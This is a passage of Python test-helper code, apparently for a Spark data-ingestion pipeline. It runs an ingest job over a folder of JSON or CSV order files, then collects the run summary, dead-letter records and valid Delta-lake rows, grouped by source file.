        return "json" if self.summary["source"] == SOURCES["json"] else "csv"


def _by_file(rows: list[dict[str, Any]], column: str) -> dict[str, list[dict[str, Any]]]:
    grouped: dict[str, list[dict[str, Any]]] = {}
    for row in rows:
        grouped.setdefault(file_name(row[column]), []).append(row)
    return grouped


def run_job(spark: SparkSession, folder: Path, lake: Path, fmt: Format, run_id: str) -> JobRun:
    """Run ``jobs/ingest_files.py`` once over ``folder`` (``--skip_dq``) and collect its output."""
    source = SOURCES[fmt]
    exit_code = main(
        ["ingest_files.py", "--JOB_NAME", "fault-corpus", "--source", source, "--dataset", "orders",
         "--input_path", str(folder), "--lake_path", str(lake), "--skip_dq", "--run_id", run_id]
    )  # fmt: skip
    summary = json.loads((lake / "_runs" / f"{run_id}.json").read_text())
    dead = [r.asDict() for r in spark.read.format("delta").load(str(lake / "_dead_letter")).collect()]
    valid_path = lake / source / "orders"
    valid = (
        [r.asDict(recursive=True) for r in spark.read.format("delta").load(str(valid_path)).collect()]
        if (valid_path / "_delta_log").exists()
        else []
    )
    return JobRun(
        exit_code,
        lake,
        summary,
        {file_name(f["path"]): f for f in summary["files"]},
        _by_file(dead, "source_file"),
        _by_file(valid, "_source_file"),
        (len(valid), len(dead)),
    )
